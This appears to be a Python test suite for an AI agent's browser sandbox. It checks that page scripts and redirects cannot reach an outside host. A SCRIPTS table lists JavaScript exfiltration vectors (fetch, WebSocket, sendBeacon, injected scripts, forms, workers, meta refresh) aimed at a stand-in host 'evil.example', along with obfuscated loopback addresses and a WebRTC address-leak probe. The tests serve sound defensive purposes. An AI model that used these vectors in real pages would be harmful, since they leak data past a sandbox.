"""Every way a page can try to reach a host outside its interface ends in no connection, seen by the listening socket.

Each attempt also runs in a browser whose sandbox allows that host: there it must be heard, or the attempt proves
nothing.
"""

from __future__ import annotations

import socket
import time
from collections.abc import Iterator

import pytest

from agent3.definitions import ActionType, NLWebAction, NLWebInterface
from agent3.errors import SecurityError
from agent3.nlweb import NLWebExecutor, NLWebSandbox
from agent3.nlweb.sandbox import Overrides
from tests.support.sites import AIRLINE, Site

pytestmark = [pytest.mark.browser, pytest.mark.requirement("RF-013-46")]

SCRIPTS = {
    "image": "new Image().src = 'http://{ear}/pixel'",
    "image redirect": "new Image().src = '/redirect?to=http://{ear}/pixel'",
    "fetch": "fetch('http://{ear}/', {{mode: 'no-cors'}}).catch(() => 0)",
    "fetch redirect": "fetch('/redirect?to=http://{ear}/', {{mode: 'no-cors'}}).catch(() => 0)",
    "secure fetch": "fetch('https://{ear}/', {{mode: 'no-cors'}}).catch(() => 0)",
    "websocket": "new WebSocket('ws://{ear}/')",
    "secure websocket": "new WebSocket('wss://{ear}/')",
    "beacon": "navigator.sendBeacon('http://{ear}/', 'x')",
    "script": "document.body.append(Object.assign(document.createElement('script'), {{src: 'http://{ear}/x.js'}}))",
    "style": "document.head.insertAdjacentHTML('beforeend', `<link rel=stylesheet href='http://{ear}/x.css'>`)",
    "prefetch": "document.head.insertAdjacentHTML('beforeend', `<link rel=prefetch href='http://{ear}/x'>`)",
    "preconnect": "document.head.insertAdjacentHTML('beforeend', `<link rel=preload as=image href='http://{ear}/x'>`)",
    "iframe": "document.body.insertAdjacentHTML('beforeend', `<iframe src='http://{ear}/'></iframe>`)",
    "popup": "window.open('http://{ear}/')",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('http://{ear}/', {{mode: 'no-cors'}})`])))",
    "event source": "new EventSource('http://{ear}/')",
    "form": "document.body.insertAdjacentHTML('beforeend', `<form method=post action='http://{ear}/'>`);"
    "document.forms[0].submit()",
    "location": "location.href = 'http://{ear}/'",
    "meta refresh": "document.head.insertAdjacentHTML('beforeend', "
    "`<meta http-equiv=refresh content='0;url=http://{ear}/'>`)",
}


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    with Site(AIRLINE) as site:
        yield site


@pytest.fixture
def ear() -> Iterator[Site]:
    """The host that must not be reached."""
    with Site({"/": "<title>outside</title>"}) as ear:
        yield ear


def browser(site: Site, sandbox: NLWebSandbox) -> NLWebExecutor:
    interface = NLWebInterface(interface_id="home", name="Home", base_url=site.url)
    # The names are known to the proxy, so that only the sandbox stands between the page and the ear.
    overrides = Overrides({"localhost": ("127.0.0.1", None), "evil.example": ("127.0.0.1", None)})
    return NLWebExecutor(interface, sandbox=sandbox, overrides=overrides)


@pytest.fixture(scope="module")
def held(site: Site) -> Iterator[NLWebExecutor]:
    with browser(site, NLWebSandbox([site.host])) as executor:
        yield executor


class Everywhere(NLWebSandbox):
    """No sandbox at all, for the counter-test."""

    def allows(self, host: str, port: int) -> bool:
        return True


@pytest.fixture(scope="module")
def free(site: Site) -> Iterator[NLWebExecutor]:
    with browser(site, Everywhere()) as executor:
        yield executor


def go(executor: NLWebExecutor, url: str) -> None:
    executor._execute_single_action(NLWebAction(action_type=ActionType.NAVIGATE, value=url))


def settle(executor: NLWebExecutor, ear: Site, refusals: int) -> None:
    """Until the attempt was refused by the proxy or heard by the ear."""
    session = executor._session
    assert session is not None
    end = time.monotonic() + 10
    while session.proxy.refusals == refusals and not ear.connections:
        assert time.monotonic() < end, "the page did not even try"
        time.sleep(0.01)


def attempt(executor: NLWebExecutor, ear: Site, host: str, script: str) -> None:
    session = executor._session
    assert session is not None
    go(executor, "/")
    refusals = session.proxy.refusals
    executor.page.evaluate(f"void setTimeout(() => {{ {script.format(ear=f'{host}:{ear.port}')} }})")
    settle(executor, ear, refusals)


@pytest.mark.parametrize("script", SCRIPTS.values(), ids=SCRIPTS.keys())
def test_no_script_of_a_page_reaches_a_forbidden_host(
    held: NLWebExecutor, free: NLWebExecutor, ear: Site, script: str
) -> None:
    for host in ("127.0.0.1", "localhost", "evil.example"):
        attempt(held, ear, host, script)
        assert held._session is not None
        assert held._session.proxy.refused[-1] == f"{host}:{ear.port}"
    assert ear.connections == 0
    attempt(free, ear, "evil.example", script)
    assert ear.connections > 0


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "evil.example", "0x7f.1", "2130706433"])
def test_a_redirect_to_a_forbidden_host_is_blocked(
    held: NLWebExecutor, free: NLWebExecutor, site: Site, ear: Site, host: str
) -> None:
    shown = "127.0.0.1" if host[0].isdigit() else host
    for scheme in ("http", "https"):
        path = f"/redirect?to={scheme}://{host}:{ear.port}/"
        with pytest.raises(SecurityError, match=rf"Navigation to .*{shown}:{ear.port}/? blocked"):
            go(held, path)
        assert site.requests[-1][1] == path
    assert ear.connections == 0
    if host == "evil.example":
        go(free, f"/redirect?to=http://{host}:{ear.port}/")
        assert free.page.title() == "outside"
        assert ear.connections > 0


def test_a_link_to_a_forbidden_host_fails_the_step_that_follows_it(held: NLWebExecutor, site: Site, ear: Site) -> None:
    site.pages["/link"] = f"<a id=out href='http://{ear.host}/'>out</a>"
    go(held, "/link")
    with pytest.raises(SecurityError, match=r"Navigation to .* blocked"):
        held._execute_single_action(
            NLWebAction(action_type=ActionType.CLICK, selector="#out", wait_for="pre", timeout=3)
        )
    assert ear.connections == 0


RTC = """async port => {
  const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${port}`}]});
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise(done => {
    const look = () => peer.iceGatheringState === 'complete' && done();
    peer.onicegatheringstatechange = look; look(); setTimeout(done, 1500);
  });
  const candidates = peer.localDescription.sdp.match(/a=candidate.*/g) ?? [];
  peer.close();
  return candidates;
}"""


def test_webrtc_sends_no_datagram_and_tells_no_address(held: NLWebExecutor) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(("127.0.0.1", 0))
        datagrams.setblocking(False)
        go(held, "/")
        assert held.page.evaluate(RTC, datagrams.getsockname()[1]) == []
        with pytest.raises(BlockingIOError):
            datagrams.recv(2048)
